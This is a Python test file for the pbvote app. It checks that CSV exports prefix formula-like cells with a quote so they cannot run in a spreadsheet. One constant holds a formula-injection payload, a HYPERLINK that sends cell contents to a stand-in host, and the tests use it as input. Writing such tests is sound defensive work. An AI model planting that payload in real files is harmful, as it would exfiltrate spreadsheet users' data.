"""Every CSV pbvote writes is safe to open in a spreadsheet: no cell runs as a formula."""

import csv
import io
import re
from pathlib import Path

import pytest

from app.exports.csv_files import cell
from tests.ideas.helpers import create_process

APP = Path(__file__).resolve().parents[2] / "app"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", EVIL])
def test_formula_text_is_quoted(text):
    assert cell(text) == "'" + text


def test_access_code_labels_cannot_run_as_formulas(client, organizer):
    pid = create_process(client, organizer)["id"]
    r = client.post(
        f"/api/processes/{pid}/access-codes",
        json={"count": 2, "label": EVIL},
        headers={**organizer.headers, "Accept": "text/csv"},
    )
    assert r.status_code == 201, r.text
    rows = list(csv.reader(io.StringIO(r.text)))
    assert rows[0] == ["batch", "number", "access_code"]
    assert [row[0] for row in rows[1:]] == ["'" + EVIL] * 2


def test_every_csv_writer_goes_through_the_formula_safe_helper():
    """A csv.writer elsewhere would skip the escaping (a .pb file is not for spreadsheets)."""
    writers = {
        str(path.relative_to(APP))
        for path in APP.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    }
    assert writers == {"exports/csv_files.py", "exports/pabulib.py"}
